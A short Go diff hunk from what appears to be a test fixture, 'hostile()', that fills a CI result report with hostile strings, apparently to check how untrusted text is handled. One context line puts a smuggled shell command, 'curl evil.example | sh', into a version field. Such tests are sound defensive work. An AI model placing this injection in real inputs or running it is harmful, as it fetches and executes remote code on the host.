@@ -31,6 +31,9 @@ func hostile() (ccci.Run, *ccci.Result) {
 	res.Base.Version = "1.0; curl evil.example | sh"
 	res.Cause = &ccci.Cause{Check: hostileTexts[15], Message: all, Hint: hostileTexts[11], Detail: hostileTexts}
 	res.Warnings = hostileTexts[len(hostileTexts)-12:]
+	for i, text := range hostileTexts {
+		res.Changes = append(res.Changes, ccci.Change{Subject: text, Kind: "changed", What: hostileTexts[(i+3)%len(hostileTexts)], Before: text, After: hostileTexts[(i+5)%len(hostileTexts)]})
+	}
 	res.Lint = []ccci.Finding{{Rule: hostileTexts[6], File: hostileTexts[11], Message: hostileTexts[0]}}
 	res.Stages[0].Status, res.Stages[0].Reason = ccci.Fail, hostileTexts[11]
 	res.Teardown.Clean, res.Teardown.Leftovers, res.Teardown.Error = false, hostileTexts[:9], hostileTexts[12]
